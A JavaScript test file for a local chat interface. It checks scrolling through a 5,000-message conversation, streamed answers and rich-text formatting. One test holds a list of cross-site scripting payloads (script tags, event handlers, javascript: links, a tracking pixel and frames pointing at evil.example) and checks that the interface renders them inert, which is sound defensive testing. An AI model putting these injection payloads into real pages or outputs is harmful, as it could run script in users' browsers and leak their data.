//! Conversations of thousands of messages, answers that come while somebody reads, and text of every kind.
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { PHONE, VIEWS, scene } from "./harness.mjs";

const COUNT = 5000;
const log = (page) => page.getByRole("log");
const message = (page) => page.getByRole("textbox", { name: "Message" });
const top = (page) => log(page).evaluate((element) => element.scrollTop);
const isAtEnd = (page) => log(page).evaluate((element) => element.scrollTop + element.clientHeight >= element.scrollHeight - 2);

/** A conversation of `COUNT` messages, taken in as a chat of the older service. */
async function longConversation(server) {
  const messages = Array.from({ length: COUNT }, (_, index) => ({
    role: index % 2 ? "assistant" : "user",
    content: index % 2 ? `Answer ${index}.\n\n* a point\n* **another** point\n\n\`\`\`python\nprint(${index})\n\`\`\`\n\nThat is all of ${index}.` : `Question ${index}?`,
    timestamp: new Date(Date.UTC(2026, 0, 1) + index * 60_000).toISOString(),
  }));
  const path = join(server.directory, "long.json");
  await writeFile(path, JSON.stringify({ long: { created_at: messages[0].timestamp, last_updated: messages.at(-1).timestamp, messages } }));
  await server.command("import", path);
}

test("conversation of 5,000 messages is shown from its end, older ones on scrolling", scene(async ({ visit, server }) => {
  await longConversation(server);
  const ann = await visit();
  await ann.launch();
  const { page } = ann;
  const times = [];
  for (let run = 0; run < 5; run++) {
    await page.evaluate(() => (location.hash = "#/"));
    await page.locator(".welcome").waitFor();
    const time = await page.evaluate(async () => {
      performance.clearMarks();
      const begin = performance.now();
      location.hash = "#/c/long";
      while (!performance.getEntriesByName("conversation-shown").length) await new Promise((next) => setTimeout(next));
      await new Promise((next) => requestAnimationFrame(() => setTimeout(next)));
      return performance.now() - begin;
    });
    times.push(Math.round(time));
  }
  console.log(`page: the newest screen of ${COUNT} messages after ${times.toSorted((a, b) => a - b)[2]} ms (of ${times.join(", ")})`);
  await log(page).getByText(`That is all of ${COUNT - 1}.`).waitFor();
  assert.ok(await isAtEnd(page));
  const shown = await page.locator(".message").count();
  assert.ok(shown < 100, `${shown} messages are loaded`);
  // Reading upwards loads older messages, and what is read stays where it is.
  const seen = log(page).getByText(`Question ${COUNT - 30}?`);
  await seen.scrollIntoViewIfNeeded();
  const before = await seen.boundingBox();
  await page.waitForFunction((count) => document.querySelectorAll(".message").length > count, shown);
  await page.evaluate(() => new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next))));
  const after = await seen.boundingBox();
  assert.ok(Math.abs((after?.y ?? 0) - (before?.y ?? 0)) < 3, `what is read moved from ${before?.y} to ${after?.y}`);
  await page.getByRole("button", { name: "To the end" }).click();
  await page.waitForFunction(() => {
    const element = document.querySelector(".log");
    return element && element.scrollTop + element.clientHeight >= element.scrollHeight - 2;
  });
}));

test("view follows the answer only while the reader is at the end", scene(async ({ visit, ollama }) => {
  const ann = await visit();
  await ann.launch();
  const { page } = ann;
  const reply = ollama.hold();
  await message(page).fill("A long list");
  await message(page).press("Enter");
  await reply.asked;
  for (let line = 0; line < 60; line++) reply.write(`Line ${line}.\n\n`);
  await log(page).getByText("Line 59.").waitFor();
  await page.waitForFunction(() => (document.querySelector(".log")?.scrollTop ?? 0) > 0);
  assert.ok(await isAtEnd(page));
  await log(page).hover();
  await page.mouse.wheel(0, -600);
  await page.getByRole("button", { name: "To the end" }).waitFor();
  await page.evaluate(() => new Promise((next) => requestAnimationFrame(() => requestAnimationFrame(next))));
  const place = await top(page);
  for (let line = 60; line < 80; line++) reply.write(`Line ${line}.\n\n`);
  await log(page).getByText("Line 79.").waitFor({ state: "attached" });
  assert.equal(await top(page), place, "the view stays");
  reply.end();
  await page.locator(".answer .facts").waitFor({ state: "attached" });
  assert.equal(await top(page), place, "the end does not move it either");
  await page.getByRole("button", { name: "To the end" }).click();
  assert.ok(await isAtEnd(page));
}));

test("view stays at the end when the answer is complete, and when it is stopped", scene(async ({ visit, ollama }) => {
  const ann = await visit();
  await ann.launch();
  const { page } = ann;
  const text = Array.from({ length: 40 }, (_, line) => `Line ${line}.`).join("\n\n");
  for (const stop of [false, true]) {
    const reply = ollama.hold();
    await message(page).fill("A long list");
    await message(page).press("Enter");
    await reply.asked;
    reply.write(`${text}\n\nThe last of ${stop}.`);
    await log(page).getByText(`The last of ${stop}.`).waitFor();
    await page.waitForFunction(() => (document.querySelector(".log")?.scrollTop ?? 0) > 500);
    if (stop) await page.keyboard.press("Escape");
    else reply.end();
    await page.locator(".answer .facts").nth(stop ? 1 : 0).waitFor({ state: "attached" });
    await page.evaluate(() => new Promise((next) => setTimeout(() => requestAnimationFrame(() => requestAnimationFrame(next)))));
    assert.ok(await isAtEnd(page), `at the end after ${stop ? "a stop" : "the end"}`);
  }
}));

test("selection in a finished block survives what follows", scene(async ({ visit, ollama }) => {
  const ann = await visit();
  await ann.launch();
  const { page } = ann;
  const reply = ollama.hold();
  await message(page).fill("Two paragraphs");
  await message(page).press("Enter");
  await reply.asked;
  reply.write("Select me.\n\nThe next");
  await log(page).getByText("The next").waitFor();
  await log(page).getByText("Select me.").dblclick({ position: { x: 12, y: 8 } });
  const selected = await page.evaluate(() => String(getSelection()));
  assert.ok(selected.length > 1);
  reply.write(" one.\n\nAnd more.");
  await log(page).getByText("And more.").waitFor();
  reply.end();
  await page.locator(".answer .facts").waitFor({ state: "attached" });
  assert.equal(await page.evaluate(() => String(getSelection())), selected);
}));

/** What models write to break pages. */
const HOSTILE = [
  "<script>window.broken = 1</script><img src=x onerror='window.broken = 1'>",
  "[click](javascript:window.broken=1) [data](data:text/html,<script>window.broken=1</script>) <a href='javascript:window.broken=1'>x</a>",
  "![tracking pixel](https://evil.example/pixel.png?secret) ![x](//evil.example/y.png)",
  "<style>body{display:none}</style><svg onload=window.broken=1></svg><math><mtext><iframe src=https://evil.example></iframe></mtext></math>",
  "<form action=https://evil.example><input name=a autofocus onfocus=window.broken=1></form><base href=https://evil.example>",
  "`<b>` ```html\n<script>window.broken=1</script>\n```",
  "<div style='position:fixed;inset:0' class='toast' id='app'>over everything</div>",
].join("\n\n");

test("hostile answer runs nothing and loads nothing, stored or streamed", scene(async ({ visit, ollama }) => {
  const ann = await visit();
  await ann.launch();
  const { page } = ann;
  ollama.answer({ content: HOSTILE });
  await message(page).fill(HOSTILE);
  await message(page).press("Enter");
  await page.locator(".answer .facts").waitFor({ state: "attached" });
  for (const again of [false, true]) {
    if (again) await page.reload();
    await page.locator(".answer .facts").waitFor({ state: "attached" });
    const found = await page.evaluate(() => ({
      broken: "broken" in window,
      elements: document.querySelectorAll(".message :is(script, img, iframe, style, form, base, svg[onload], [onerror], [onload], [style], #app)").length,
      links: [...document.querySelectorAll(".message a")].map((link) => link.getAttribute("href") ?? "").filter((href) => !/^(https?:|mailto:)/.test(href)),
    }));
    assert.deepEqual(found, { broken: false, elements: 0, links: [] });
  }
  assert.equal(await page.locator(".bubble").first().evaluate((element) => element.childElementCount), 0, "a question is plain text");
}));

const EVERYTHING = [
  "# A first heading\n\nSome text with **bold**, *italic*, ~~struck~~, `inline code` and a [link](https://example.org/a/very/long/address/that/does/not/fit/on/a/phone/at/all).",
  "## A list\n\n1. first\n2. second\n   - nested\n   - nested again\n3. third\n\n- [x] done\n- [ ] open",
  "```rust\n/// A comment, and a line that is much too long for any phone: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nfn main() -> Result<(), Error> {\n    let text = \"string\"; // 42\n    println!(\"{text} {}\", 42);\n}\n```",
  "| name | size | what it is good for | notes |\n|:---|---:|---|---|\n| qwen3:8b | 5.2 GB | most things, with thinking | a long note that makes the table wider than a phone |\n| gemma3:4b | 3.3 GB | pictures | short |",
  "> A quotation that says something wise, at some length, so that it needs two lines on most screens that people use.",
  "عربي: هذا نص من اليمين إلى اليسار مع كلمة English في الوسط.",
  "日本語の文章です。絵文字 👩‍👩‍👧‍👦 🎉 と一緒に。\n\n---\n\nAVeryLongWordWithoutAnyBreak" + "abcdefghij".repeat(20),
].join("\n\n");

for (const view of VIEWS) {
  test(`text of every kind reads well (${view.theme}, ${view.viewport.width})`, scene(async ({ visit, ollama }) => {
    const ann = await visit(view);
    await ann.launch();
    const { page } = ann;
    ollama.answer({ thinking: "Let me think.", content: EVERYTHING });
    await message(page).fill("Show me everything that you can format, with a question that takes two lines at least on a phone.");
    await page.getByRole("button", { name: "Send" }).click();
    await page.locator(".answer .facts").waitFor({ state: "attached" });
    if (view.viewport.width !== PHONE.width) await page.setViewportSize({ ...view.viewport, height: 1500 });
    await ann.shot("everything-end");
    await log(page).evaluate((element) => (element.scrollTop = 0));
    await ann.shot("everything");
    // What is too wide scrolls in its own frame; a message cuts off the rest.
    const cut = await page.locator(".message").evaluateAll((messages) => messages.filter((message) => message.scrollWidth > message.clientWidth).length);
    assert.equal(cut, 0, "messages that are cut off");
    await ann.audit(`an answer in ${view.theme} at ${view.viewport.width}`);
  }));
}
